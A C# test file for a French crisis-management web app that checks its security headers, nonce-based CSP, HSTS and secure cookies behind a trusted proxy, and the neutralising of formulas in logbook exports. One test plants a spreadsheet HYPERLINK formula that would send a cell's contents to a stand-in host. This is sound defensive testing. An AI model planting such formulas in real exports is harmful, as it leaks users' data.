using Enki.Application.Crises;
using System.Net;
using System.Text.RegularExpressions;
using Enki.Domain.Crises;
using Enki.Domain.Logbook;
using Enki.Tests.Support;
using Enki.Web.Hosting;
using Microsoft.Extensions.DependencyInjection;
using static Enki.Tests.Crises.CrisisViewers;

namespace Enki.Tests.Security;

/// <summary>The hardening headers over real HTTP (Kestrel on a loopback port).</summary>
[Collection(WebCollection.Name)]
public sealed partial class SecurityHeadersTests(SecurityHeadersTests.Host host) : IClassFixture<SecurityHeadersTests.Host>
{
    private const string PartnerKey = "partenaire-entetes-0123456789abcdef";

    /// <summary>One host for the class, on real Kestrel; the one test that writes opens a crisis of its own.</summary>
    public sealed class Host() : SharedHost(new EnkiWebApplicationFactory()
        .With("Enki:Map:TileUrl", "https://{s}.tuiles.example.fr/{z}/{x}/{y}.png")
        .With("Enki:Api:Keys:0:Name", "SIG 77").With("Enki:Api:Keys:0:Key", PartnerKey).With("Enki:Api:Keys:0:Scope", "departement:77")
        .With("Enki:Proxy:KnownNetworks:0", "127.0.0.1/32"), kestrel: true);

    private readonly EnkiWebApplicationFactory _app = host.App;
    private readonly Uri _base = host.BaseAddress;

    [Fact]
    public async Task Pages_api_answers_and_exports_carry_the_hardening_headers_and_no_server_header()
    {
        using var http = new HttpClient { BaseAddress = _base };

        using var page = await http.GetAsync("/compte/connexion");
        var html = await page.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        Assert.False(page.Headers.Contains("Server"));
        Assert.Equal("nosniff", Single(page, "X-Content-Type-Options"));
        Assert.Equal("strict-origin-when-cross-origin", Single(page, "Referrer-Policy"));
        Assert.Equal("DENY", Single(page, "X-Frame-Options"));
        Assert.True(page.Headers.CacheControl?.NoStore);
        var csp = Single(page, "Content-Security-Policy");
        Assert.Contains("default-src 'self'", csp);
        Assert.Contains("img-src 'self' data: blob: https://*.tuiles.example.fr", csp);
        Assert.Contains("worker-src 'self'", csp);
        Assert.Contains("frame-ancestors 'none'", csp);
        Assert.DoesNotContain("unsafe-eval", csp);
        // The one inline script, Blazor's import map, runs by the nonce of this answer, and no other script is inline.
        var nonce = ScriptNonce().Match(csp).Groups[1].Value;
        Assert.NotEmpty(nonce);
        Assert.Contains($"nonce=\"{nonce}\"", Assert.Single(InlineScripts().Matches(html), m => m.Value.Contains("importmap")).Value);
        Assert.All(InlineScripts().Matches(html), m => Assert.Contains($"nonce=\"{nonce}\"", m.Value));
        using var again = await http.GetAsync("/compte/connexion");
        Assert.NotEqual(nonce, ScriptNonce().Match(Single(again, "Content-Security-Policy")).Groups[1].Value);

        using var api = new HttpRequestMessage(HttpMethod.Get, "/api/v1/incidents");
        api.Headers.Add("X-Api-Key", PartnerKey);
        using var apiAnswer = await http.SendAsync(api);
        Assert.Equal(HttpStatusCode.OK, apiAnswer.StatusCode);
        Assert.True(apiAnswer.Headers.CacheControl?.NoStore);
        Assert.Equal("nosniff", Single(apiAnswer, "X-Content-Type-Options"));
        Assert.False(apiAnswer.Headers.Contains("Server"));

        // Static files keep their own caching: only data is never stored.
        using var favicon = await http.GetAsync("/favicon.svg");
        Assert.Equal(HttpStatusCode.OK, favicon.StatusCode);
        Assert.NotEqual(true, favicon.Headers.CacheControl?.NoStore);
    }

    [Fact]
    public async Task The_logbook_export_is_never_stored_and_its_formulas_are_text()
    {
        var crisis = await _app.Services.GetRequiredService<CrisisCommands>().OpenAsync(Sdis77, new CrisisDraft(
            "Crue de la Marne", CrisisType.Flood, null, [Domain.Access.Jurisdiction.Commune("77108")], DateTimeOffset.UtcNow, false));
        await _app.Services.GetRequiredService<ILogbook>().AppendAsync(crisis.Id, Sdis77, LogbookEntryKind.Decision,
            "=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Détails\")");
        using var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = _base };
        Assert.Equal(HttpStatusCode.Redirect, (await client.PostSignInAsync("sdis77", SignInClient.DemoPassword)).StatusCode);

        foreach (var format in new[] { "csv", "xlsx" })
        {
            using var export = await client.GetAsync($"/crises/{crisis.Id}/main-courante.{format}");
            Assert.Equal(HttpStatusCode.OK, export.StatusCode);
            Assert.True(export.Headers.CacheControl?.NoStore, format);
        }
        using var csv = await client.GetAsync($"/crises/{crisis.Id}/main-courante.csv");
        var rows = CsvInjectionTests.Read(await csv.Content.ReadAsByteArrayAsync());
        Assert.Contains(rows, row => row[4] == "'=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Détails\")");
        Assert.DoesNotContain(rows, row => row.Any(cell => cell.StartsWith('=')));

        // The public outlines keep their day-long caching.
        using var outlines = await client.GetAsync("/api/v1/geography/departments.geojson");
        Assert.Equal(HttpStatusCode.OK, outlines.StatusCode);
        Assert.Equal(TimeSpan.FromDays(1), outlines.Headers.CacheControl?.MaxAge);
    }

    [Fact]
    public async Task Behind_a_known_tls_proxy_the_session_cookie_is_secure_and_hsts_is_sent()
    {
        using var handler = new HttpClientHandler { UseCookies = false, AllowAutoRedirect = false };
        using var http = new HttpClient(handler) { BaseAddress = _base };
        http.DefaultRequestHeaders.Host = "enki.prefecture.example.fr";

        // The proxy (127.0.0.1, declared in Enki:Proxy:KnownNetworks) terminated TLS.
        using var form = new HttpRequestMessage(HttpMethod.Get, "/compte/connexion");
        form.Headers.Add("X-Forwarded-Proto", "https");
        form.Headers.Add("X-Forwarded-For", "203.0.113.7");
        using var page = await http.SendAsync(form);
        Assert.Contains("max-age=31536000", Single(page, "Strict-Transport-Security"));
        var antiforgery = page.Headers.GetValues("Set-Cookie").Select(c => c.Split(';')[0]).ToList();

        using var post = new HttpRequestMessage(HttpMethod.Post, "/compte/connexion")
        {
            Content = new FormUrlEncodedContent(new Dictionary<string, string>
            {
                ["__RequestVerificationToken"] = SignInClient.AntiforgeryToken(await page.Content.ReadAsStringAsync()),
                ["_handler"] = "connexion",
                ["Input.UserName"] = "sdis77",
                ["Input.Password"] = SignInClient.DemoPassword,
            }),
        };
        post.Headers.Add("X-Forwarded-Proto", "https");
        post.Headers.Add("Cookie", string.Join("; ", antiforgery));
        using var signedIn = await http.SendAsync(post);

        Assert.Equal(HttpStatusCode.Redirect, signedIn.StatusCode);
        var session = Assert.Single(signedIn.Headers.GetValues("Set-Cookie"), c => c.StartsWith("enki.session="));
        Assert.Contains("; secure", session, StringComparison.OrdinalIgnoreCase);

        // Plain HTTP without the proxy's word: no HSTS (browsers would ignore it anyway), no Secure flag.
        using var plain = await http.GetAsync("/compte/connexion");
        Assert.False(plain.Headers.Contains("Strict-Transport-Security"));
    }

    [Fact]
    public async Task Forwarded_headers_from_an_unknown_address_are_ignored()
    {
        await using var app = new EnkiWebApplicationFactory().With("Enki:Proxy:KnownNetworks:0", "10.20.0.0/16");
        var address = app.StartKestrel();
        using var http = new HttpClient { BaseAddress = address };
        http.DefaultRequestHeaders.Host = "enki.prefecture.example.fr";
        using var request = new HttpRequestMessage(HttpMethod.Get, "/compte/connexion");
        request.Headers.Add("X-Forwarded-Proto", "https");

        using var page = await http.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        Assert.False(page.Headers.Contains("Strict-Transport-Security"));
        Assert.DoesNotContain(page.Headers.TryGetValues("Set-Cookie", out var cookies) ? cookies : [], c => c.Contains("secure", StringComparison.OrdinalIgnoreCase));
    }

    [Theory]
    [InlineData("https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png", "https://*.tile.openstreetmap.org")]
    [InlineData("https://tuiles.sdis77.example.fr/osm/{z}/{x}/{y}.png", "https://tuiles.sdis77.example.fr")]
    [InlineData("http://127.0.0.1:8081/{z}/{x}/{y}.png", "http://127.0.0.1:8081")]
    [InlineData("https://wxs.{s}.example/{z}/{x}/{y}", "https://*.example")]
    [InlineData("", null)]
    [InlineData("/tuiles/{z}/{x}/{y}.png", null)]
    public void The_tile_host_becomes_an_image_source(string tileUrl, string? expected)
    {
        Assert.Equal(expected, ContentSecurityPolicy.TileSource(tileUrl));
        Assert.Contains($"img-src 'self' data: blob:{(expected is null ? "" : " " + expected)};", ContentSecurityPolicy.Build("n", tileUrl, null));
    }

    private static string Single(HttpResponseMessage response, string header) =>
        Assert.Single(response.Headers.TryGetValues(header, out var values) ? values : []);

    [GeneratedRegex("script-src 'self' 'nonce-([^']+)'")]
    private static partial Regex ScriptNonce();

    [GeneratedRegex("<script(?![^>]*\\bsrc=)[^>]*>")]
    private static partial Regex InlineScripts();
}
